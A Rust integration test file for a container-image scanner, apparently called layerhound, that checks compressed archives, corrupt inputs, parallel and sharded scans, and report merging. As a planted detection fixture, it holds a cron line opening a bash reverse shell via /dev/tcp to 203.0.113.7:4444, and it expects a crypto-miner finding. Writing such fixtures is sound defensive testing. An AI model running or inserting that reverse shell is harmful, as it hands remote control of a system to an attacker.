//! Whole estates: outer archives in every compression `docker save | …` pipelines make, named
//! paths that are not images, directories of good, corrupt and other files scanned with inputs
//! in parallel and shared layers read once.

mod common;

use std::path::Path;
use std::process::{Command, Output, Stdio};

use serde_json::Value;

fn layerhound(args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_layerhound")).args(args).current_dir(env!("CARGO_MANIFEST_DIR")).output().expect("the binary runs")
}

fn stderr(output: &Output) -> String {
    String::from_utf8_lossy(&output.stderr).into_owned()
}

/// Runs `scan ARGS -o DIR/NAME` and returns the exit code, the report and stderr.
fn scan(dir: &Path, name: &str, args: &[&str]) -> (Option<i32>, Value, String) {
    let out = dir.join(name);
    let mut all = vec!["scan"];
    all.extend_from_slice(args);
    all.extend(["-o", out.to_str().unwrap()]);
    let run = layerhound(&all);
    let report = serde_json::from_slice(&std::fs::read(&out).unwrap_or_else(|err| panic!("no report ({err}): {}", stderr(&run))))
        .expect("the report is JSON");
    (run.status.code(), report, stderr(&run))
}

/// `tool -c < input > output`, as `docker save | xz > image.tar.xz` makes it.
fn compress_with(tool: &str, input: &Path, output: &Path) {
    let status = Command::new(tool)
        .arg("-c")
        .stdin(std::fs::File::open(input).unwrap())
        .stdout(std::fs::File::create(output).unwrap())
        .stderr(Stdio::inherit())
        .status()
        .unwrap_or_else(|err| panic!("{tool} runs (apt-get install -y xz-utils bzip2): {err}"));
    assert!(status.success(), "{tool} failed");
}

/// (rule, path, state) of every finding location of the first image, sorted.
fn findings_of(input: &Value) -> Vec<(String, String, String)> {
    let mut found: Vec<(String, String, String)> = input["images"][0]["findings"]
        .as_array()
        .unwrap()
        .iter()
        .flat_map(|f| {
            f["locations"].as_array().unwrap().iter().map(move |l| {
                let place = l["path"].as_str().or(l["field"].as_str()).unwrap_or("?").to_string();
                (f["detector"]["rule"].as_str().unwrap().to_string(), place, l["state"].as_str().unwrap().to_string())
            })
        })
        .collect();
    found.sort();
    found
}

#[test]
fn docker_save_piped_through_xz_or_bzip2_scans_like_the_plain_tar() {
    let dir = tempfile::tempdir().unwrap();
    let plain = common::repo_path("samples/webapp.docker.tar");
    let xz = dir.path().join("webapp.docker.tar.xz");
    let bz2 = dir.path().join("webapp.docker.tar.bz2");
    compress_with("xz", &plain, &xz);
    compress_with("bzip2", &plain, &bz2);
    let (code, report, told) = scan(dir.path(), "report.json", &[plain.to_str().unwrap(), xz.to_str().unwrap(), bz2.to_str().unwrap()]);
    assert_eq!(code, Some(1), "complete, with the planted findings: {told}");
    let inputs = report["inputs"].as_array().unwrap();
    assert_eq!(inputs.len(), 3);
    let plain_input = inputs.iter().find(|i| i["compression"] == "none").unwrap();
    let expected = findings_of(plain_input);
    assert!(expected.iter().any(|(rule, _, _)| rule.contains("xmrig")), "{expected:?}");
    for (compression, path) in [("xz", &xz), ("bzip2", &bz2)] {
        let input = inputs.iter().find(|i| i["compression"] == compression).unwrap_or_else(|| panic!("{compression}: {report}"));
        assert_eq!(input["sha256"], common::build::sha(&std::fs::read(path).unwrap()));
        assert_eq!(input["tar_sha256"], plain_input["sha256"], "{compression}: the decompressed tar is the plain file");
        assert_eq!(input["images"][0]["verified"], true);
        assert_eq!(findings_of(input), expected, "{compression}");
    }
}

#[test]
fn an_xz_or_bzip2_outer_archive_is_bounded_like_gzip() {
    let dir = tempfile::tempdir().unwrap();
    let plain = common::repo_path("samples/webapp.docker.tar");
    let plain_size = std::fs::metadata(&plain).unwrap().len();
    for (tool, name) in [("xz", "cut.tar.xz"), ("bzip2", "cut.tar.bz2")] {
        let packed = dir.path().join(name);
        compress_with(tool, &plain, &packed);
        let cap = (plain_size / 2).to_string();
        let (code, report, _) = scan(dir.path(), "report.json", &["--max-tar-bytes", &cap, packed.to_str().unwrap()]);
        assert_eq!(code, Some(2), "{tool}: a cut outer archive is an error");
        assert_eq!(report["complete"], false);
        let errors = report["inputs"][0]["errors"].to_string();
        assert!(errors.contains(&format!("limit of {cap} bytes")), "{tool}: {errors}");
    }
}

#[test]
fn a_named_path_that_is_not_an_image_is_an_error_and_one_found_in_a_walk_is_skipped() {
    let dir = tempfile::tempdir().unwrap();
    let notes = common::build::write_temp(&dir, "notes.txt", b"not an image\n");
    let bare_layer = common::build::write_temp(&dir, "layer.tar", &common::build::layer_tar(&[("etc/hostname", b"box\n")]));
    for named in [&notes, &bare_layer] {
        let (code, report, told) = scan(dir.path(), "named.json", &[named.to_str().unwrap()]);
        assert_eq!(code, Some(2), "{}: {told}", named.display());
        assert_eq!(report["complete"], false);
        assert_eq!(report["skipped"], Value::Array(Vec::new()));
        let errors = report["inputs"][0]["errors"].to_string();
        assert!(errors.contains("not an image: "), "{errors}");
        assert_eq!(report["inputs"][0]["sha256"], common::build::sha(&std::fs::read(named).unwrap()), "the evidence is still identified");
    }
    // The same files met in a directory walk are passed over, beside an image that scans clean.
    let walk = tempfile::tempdir().unwrap();
    std::fs::copy(&notes, walk.path().join("notes.txt")).unwrap();
    std::fs::copy(&bare_layer, walk.path().join("layer.tar")).unwrap();
    std::fs::copy(common::fixtures_dir().join("google-go-containerregistry/hello-world-v25.tar"), walk.path().join("hello.tar")).unwrap();
    let (code, report, told) = scan(dir.path(), "walk.json", &[walk.path().to_str().unwrap()]);
    assert_eq!(code, Some(0), "{told}");
    let skipped: Vec<&str> = report["skipped"].as_array().unwrap().iter().map(|s| s["path"].as_str().unwrap()).collect();
    assert_eq!(skipped.len(), 2, "{skipped:?}");
    assert!(skipped.iter().any(|p| p.ends_with("notes.txt")) && skipped.iter().any(|p| p.ends_with("layer.tar")), "{skipped:?}");
}

#[test]
fn an_empty_or_unreadable_input_is_never_complete() {
    let dir = tempfile::tempdir().unwrap();
    let empty_dir = dir.path().join("nothing-here");
    std::fs::create_dir(&empty_dir).unwrap();
    let walk = dir.path().join("estate");
    std::fs::create_dir(&walk).unwrap();
    std::fs::write(walk.join("cut-off.tar"), b"").unwrap();
    let walk_dangling = dir.path().join("estate2");
    std::fs::create_dir(&walk_dangling).unwrap();
    std::os::unix::fs::symlink(dir.path().join("gone.tar"), walk_dangling.join("image.tar")).unwrap();
    let cases: [(&Path, &str); 4] = [
        (&empty_dir, "no file under this directory"),
        (&walk, "empty file (0 bytes)"),
        (&walk.join("cut-off.tar"), "empty file (0 bytes)"),
        (&walk_dangling, "No such file"),
    ];
    for (path, reason) in cases {
        let (code, report, told) = scan(dir.path(), "report.json", &[path.to_str().unwrap()]);
        assert_eq!(code, Some(2), "{}: {told}", path.display());
        assert_eq!(report["complete"], false, "{}", path.display());
        assert!(report.to_string().contains(reason), "{}: {reason}: {report}", path.display());
        assert_eq!(report["skipped"], Value::Array(Vec::new()), "{}", path.display());
    }
}

const CRON_SHELL: &[u8] = b"* * * * * root bash -c 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'\n";

/// An estate: four OCI images over one shared gzip base layer (with a reverse shell in cron),
/// the docker-archive sample plain and gzipped (the same plain layers in two tarballs), a
/// tarball cut off half-way, a text file and a bare layer tar.
fn estate(dir: &Path) -> usize {
    use common::build::{gzip, layer_tar, oci_archive};
    let base = layer_tar(&[("etc/cron.d/backup", CRON_SHELL), ("etc/hostname", b"estate\n")]);
    for i in 0..4 {
        let top = layer_tar(&[(&format!("app/v{i}.txt"), format!("release {i}\n").as_bytes())]);
        let image = oci_archive(&[(gzip(&base), base.clone()), (gzip(&top), top)]);
        std::fs::write(dir.join(format!("app-{i}.tar")), &image).unwrap();
        if i == 0 {
            std::fs::write(dir.join("cut-off.tar"), &image[..image.len() / 2]).unwrap();
        }
    }
    std::fs::copy(common::repo_path("samples/webapp.docker.tar"), dir.join("webapp.docker.tar")).unwrap();
    std::fs::copy(common::repo_path("samples/webapp.docker.tar.gz"), dir.join("webapp.docker.tar.gz")).unwrap();
    std::fs::write(dir.join("notes.txt"), b"estate inventory\n").unwrap();
    std::fs::write(dir.join("layer.tar"), layer_tar(&[("etc/motd", b"hi\n")])).unwrap();
    4
}

/// The report without what differs between two runs of the same scan: the clock.
fn timeless(mut report: Value) -> Value {
    report["started_at"] = Value::Null;
    report["finished_at"] = Value::Null;
    report
}

#[test]
fn a_directory_of_good_corrupt_and_other_files_is_scanned_in_parallel_and_shared_findings_reach_every_image() {
    let work = tempfile::tempdir().unwrap();
    let dir = work.path().join("estate");
    std::fs::create_dir(&dir).unwrap();
    let apps = estate(&dir);
    let (code, report, told) = scan(work.path(), "parallel.json", &["-j", "4", dir.to_str().unwrap()]);
    assert_eq!(code, Some(2), "the cut-off tarball makes the report incomplete: {told}");
    let inputs = report["inputs"].as_array().unwrap();
    let paths: Vec<&str> = inputs.iter().map(|i| i["path"].as_str().unwrap()).collect();
    let mut sorted = paths.clone();
    sorted.sort();
    assert_eq!(paths, sorted, "inputs in path order whatever finished first");
    assert_eq!(inputs.len(), apps + 3, "{paths:?}");
    let skipped: Vec<&str> = report["skipped"].as_array().unwrap().iter().map(|s| s["path"].as_str().unwrap()).collect();
    assert!(skipped.len() == 2 && skipped[0].ends_with("layer.tar") && skipped[1].ends_with("notes.txt"), "{skipped:?}");
    let cut = inputs.iter().find(|i| i["path"].as_str().unwrap().ends_with("cut-off.tar")).unwrap();
    assert!(!cut["errors"].as_array().unwrap().is_empty() || !cut["not_scanned"].as_array().unwrap().is_empty(), "{cut}");
    for i in 0..apps {
        let app = inputs.iter().find(|input| input["path"].as_str().unwrap().ends_with(&format!("app-{i}.tar"))).unwrap();
        assert_eq!(app["errors"], Value::Array(Vec::new()), "app-{i}");
        let image = &app["images"][0];
        assert_eq!(image["verified"], true, "app-{i}");
        let shell = image["findings"]
            .as_array()
            .unwrap()
            .iter()
            .find(|f| f["detector"]["rule"] == "reverse_shell_dev_tcp")
            .unwrap_or_else(|| panic!("app-{i}: the shared base layer's finding is attributed to this image too"));
        let location = &shell["locations"][0];
        assert_eq!((location["path"].as_str(), location["layer"].as_u64()), (Some("/etc/cron.d/backup"), Some(0)), "app-{i}");
        assert_eq!(location["layer_digest"], image["layers"][0]["digest"]);
    }
    let plain = inputs.iter().find(|i| i["path"].as_str().unwrap().ends_with("webapp.docker.tar")).unwrap();
    let gz = inputs.iter().find(|i| i["path"].as_str().unwrap().ends_with("webapp.docker.tar.gz")).unwrap();
    assert_eq!(findings_of(plain), findings_of(gz), "the same layers in two tarballs, read once, reported in both");
    assert!(!findings_of(gz).is_empty());
    // One input at a time with nothing kept between inputs gives the same report.
    let (serial_code, serial, _) = scan(work.path(), "serial.json", &["-j", "1", "--max-kept-entries", "0", dir.to_str().unwrap()]);
    assert_eq!(serial_code, code);
    assert_eq!(timeless(serial), timeless(report));
}

/// Counts how often each (layer, entry) reaches the scanner.
#[derive(Default)]
struct Counting(std::sync::Mutex<std::collections::HashMap<(String, u32), usize>>);

struct CountingLayer<'a>(&'a Counting);

impl layerhound::layer::ContentSink for Counting {
    fn session<'b>(&self, read: &mut dyn FnMut(&dyn layerhound::layer::LayerSinks<'b>)) {
        read(self);
    }
}

impl<'b> layerhound::layer::LayerSinks<'b> for Counting {
    fn layer(&self) -> Box<dyn layerhound::layer::LayerSink<'b> + '_> {
        Box::new(CountingLayer(self))
    }
}

impl layerhound::layer::LayerSink<'_> for CountingLayer<'_> {
    fn file(&mut self, location: &layerhound::layer::EntryLocation<'_>, _: &mut dyn std::io::Read, _: Option<&[u8]>) {
        *self.0 .0.lock().unwrap().entry((location.layer_digest.to_string(), location.entry_index)).or_insert(0) += 1;
    }
}

impl layerhound::scan::ContentScan for Counting {
    fn outcome(&self, _: layerhound::digest::OciDigest, _: u32) -> Option<std::sync::Arc<layerhound::scan::FileOutcome>> {
        None
    }
}

#[test]
fn a_layer_blob_several_tarballs_hold_is_read_once_per_run() {
    let work = tempfile::tempdir().unwrap();
    estate(work.path());
    let reads = |limits: layerhound::limits::Limits| {
        let counting = Counting::default();
        let options = layerhound::ScanOptions { limits, ..layerhound::ScanOptions::default() };
        let report = layerhound::scan(&[work.path().to_path_buf()], &options, &counting, &mut |_| {});
        assert_eq!(report.inputs.iter().map(|i| i.images.len()).sum::<usize>(), 6, "4 apps and 2 webapp (the cut one has none)");
        let counts = counting.0.into_inner().unwrap();
        let base = report.inputs[0].images[0].layers[0].digest.unwrap().to_string();
        (counts.get(&(base, 0)).copied(), counts.values().copied().max())
    };
    assert_eq!(reads(layerhound::limits::Limits::default()), (Some(1), Some(1)), "every file of every blob handed over once");
    let no_reuse = layerhound::limits::Limits { max_kept_entries: 0, ..layerhound::limits::Limits::default() };
    let (base_reads, _) = reads(no_reuse);
    assert!(base_reads >= Some(4), "without keeping layers the shared base is read per tarball: {base_reads:?}");
}

#[test]
fn shards_merged_equal_one_unsharded_run_byte_for_byte_timestamps_aside() {
    let work = tempfile::tempdir().unwrap();
    let dir = work.path().join("estate");
    std::fs::create_dir(&dir).unwrap();
    estate(&dir);
    let dir = dir.to_str().unwrap();
    let whole = work.path().join("whole.json");
    let run = layerhound(&["scan", dir, "-o", whole.to_str().unwrap()]);
    assert_eq!(run.status.code(), Some(2), "{}", stderr(&run));
    let shards = 3;
    let mut reports = Vec::new();
    let mut shard_inputs = 0;
    for k in 0..shards {
        let out = work.path().join(format!("shard-{k}.json"));
        let shard = format!("{k}/{shards}");
        let run = layerhound(&["scan", "--shard", &shard, dir, "-o", out.to_str().unwrap()]);
        assert!(matches!(run.status.code(), Some(0..=2)), "{}", stderr(&run));
        let report: Value = serde_json::from_slice(&std::fs::read(&out).unwrap()).unwrap();
        shard_inputs += report["inputs"].as_array().unwrap().len();
        assert!(report["inputs"].as_array().unwrap().len() < 7, "shard {shard} holds part of the estate");
        reports.push(out.to_str().unwrap().to_string());
    }
    assert_eq!(shard_inputs, 7, "every input in exactly one shard");
    let merged = work.path().join("estate.json");
    let mut args = vec!["merge"];
    // In any order.
    args.extend(reports.iter().rev().map(String::as_str));
    args.extend(["-o", merged.to_str().unwrap()]);
    let run = layerhound(&args);
    assert_eq!(run.status.code(), Some(2), "the estate is incomplete (the cut-off tarball): {}", stderr(&run));
    let (merged_text, whole_text) = (without_clock(&merged), without_clock(&whole));
    assert!(merged_text == whole_text, "merged shards differ from the unsharded run:\n{merged_text}\n---\n{whole_text}");
    // A shard merged twice is refused, not counted twice.
    let run = layerhound(&["merge", &reports[0], &reports[0]]);
    assert_eq!(run.status.code(), Some(2));
    assert!(stderr(&run).contains("more than one report"), "{}", stderr(&run));
}

/// The whole report of `dir`, and a function that reads a report without its clock lines.
fn unsharded(work: &Path, dir: &str) -> String {
    let whole = work.join("whole.json");
    layerhound(&["scan", dir, "-o", whole.to_str().unwrap()]);
    without_clock(&whole)
}

fn without_clock(path: &Path) -> String {
    let text = std::fs::read_to_string(path).unwrap_or_else(|err| panic!("{}: {err}", path.display()));
    text.lines().filter(|l| !l.starts_with("  \"started_at\": ") && !l.starts_with("  \"finished_at\": ")).collect::<Vec<_>>().join("\n")
}

fn merge_all(reports: &Path, out: &Path) {
    let mut shards: Vec<String> = std::fs::read_dir(reports).unwrap().map(|e| e.unwrap().path().display().to_string()).collect();
    shards.sort();
    let mut args = vec!["merge".to_string()];
    args.extend(shards);
    args.extend(["-o".into(), out.display().to_string()]);
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    let run = layerhound(&args);
    assert!(out.exists(), "{}", stderr(&run));
}

#[test]
fn the_kubernetes_indexed_job_recipe_parses_and_its_pods_merge_into_the_whole_run() {
    let manifest: serde_yaml_ng::Value =
        serde_yaml_ng::from_str(&std::fs::read_to_string(common::repo_path("docs/k8s-indexed-job.yaml")).unwrap()).expect("valid YAML");
    assert_eq!(manifest["kind"].as_str(), Some("Job"));
    assert_eq!(manifest["spec"]["completionMode"].as_str(), Some("Indexed"));
    let completions = manifest["spec"]["completions"].as_u64().expect("completions");
    let container = &manifest["spec"]["template"]["spec"]["containers"][0];
    let script = container["command"][2].as_str().expect("sh -c SCRIPT");
    assert!(script.contains(&format!("--shard \"$JOB_COMPLETION_INDEX/{completions}\"")), "{script}");
    // Each pod's script, run here with the mounts as local directories.
    let work = tempfile::tempdir().unwrap();
    let (evidence, reports, scratch) = (work.path().join("evidence"), work.path().join("reports"), work.path().join("scratch"));
    for dir in [&evidence, &reports, &scratch] {
        std::fs::create_dir(dir).unwrap();
    }
    estate(&evidence);
    let local = script
        .replace("layerhound ", &format!("{} ", env!("CARGO_BIN_EXE_layerhound")))
        .replace("/evidence", evidence.to_str().unwrap())
        .replace("/reports", reports.to_str().unwrap())
        .replace("/scratch", scratch.to_str().unwrap());
    for index in 0..completions {
        let pod = Command::new("sh").args(["-c", &local]).env("JOB_COMPLETION_INDEX", index.to_string()).output().unwrap();
        assert!(pod.status.success(), "pod {index}: a finished scan is a completed pod: {}", stderr(&pod));
    }
    assert_eq!(std::fs::read_dir(&reports).unwrap().count() as u64, completions);
    let merged = work.path().join("estate.json");
    merge_all(&reports, &merged);
    assert_eq!(without_clock(&merged), unsharded(work.path(), evidence.to_str().unwrap()));
}

#[test]
fn the_gnu_parallel_recipe_runs_the_shards_and_merges_into_the_whole_run() {
    let work = tempfile::tempdir().unwrap();
    let (evidence, reports) = (work.path().join("evidence"), work.path().join("reports"));
    std::fs::create_dir(&evidence).unwrap();
    std::fs::create_dir(&reports).unwrap();
    estate(&evidence);
    // The README's recipe with the local host standing in for the remote ones (`-S :`).
    let run = Command::new("parallel")
        .args(["--will-cite", "-S", ":", "-j", "2"])
        .arg(format!(
            "{} scan {} --shard {{}}/4 -o {}/shard-{{}}.json",
            env!("CARGO_BIN_EXE_layerhound"),
            evidence.display(),
            reports.display()
        ))
        .args([":::", "0", "1", "2", "3"])
        .output()
        .expect("GNU parallel runs (apt-get install -y parallel)");
    assert_eq!(std::fs::read_dir(&reports).unwrap().count(), 4, "{}", stderr(&run));
    let merged = work.path().join("estate.json");
    merge_all(&reports, &merged);
    assert_eq!(without_clock(&merged), unsharded(work.path(), evidence.to_str().unwrap()));
}
